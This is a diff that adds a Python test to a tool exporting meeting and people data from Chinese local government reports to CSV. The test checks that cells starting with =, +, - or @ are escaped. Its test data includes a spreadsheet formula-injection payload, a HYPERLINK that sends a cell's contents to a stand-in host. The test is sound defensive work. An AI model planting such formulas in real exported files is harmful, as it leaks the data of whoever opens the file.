@@ -379,6 +379,24 @@ def test_the_people_list_holds_those_only_mentioned_with_that_role() -> None:
     assert rows[3].startswith("習近平,Xi Jinping,總書記,")
 
 
+def test_the_csv_files_keep_text_a_spreadsheet_would_run_as_a_formula_as_text() -> None:
+    # Names, titles and slogans come from scraped pages, reports' names from files: a cell
+    # opening with = + - @ is run by a spreadsheet (=HYPERLINK… sends what it holds away).
+    from jiyao.batch_index import Entry, meetings_csv, people_csv
+    from jiyao.cleaning import clean_text
+    from jiyao.extraction import extract_offline
+
+    readout = extract_offline(clean_text("縣委召開會議\n3月2日，縣委書記王明主持會議。縣長李強出席。"))
+    readout = readout.model_copy(update={"slogans": ['=HYPERLINK("http://x.example/?"&A1)', "-2+3"]})
+    entry = Entry("@report.txt", readout, "+report.brief.html")
+    meetings = next(csv.DictReader(io.StringIO(meetings_csv([entry]))))
+    assert meetings["report"] == "'@report.txt" and meetings["brief"] == "'+report.brief.html"
+    assert meetings["slogans"] == '\'=HYPERLINK("http://x.example/?"&A1)；-2+3'
+    assert meetings["date"] == "--03-02" and meetings["chair"] == "王明"  # jiyao's own values, clean text: as they are
+    people = list(csv.DictReader(io.StringIO(people_csv([entry]))))
+    assert {row["report"] for row in people} == {"'@report.txt"} and people[0]["name"] == "王明"
+
+
 def test_the_index_says_which_briefs_to_check_before_quoting_them() -> None:
     # Before: a batch's index showed a page of English, a report whose names damaged bytes
     # took and a clean one alike; its notes were only inside each brief.
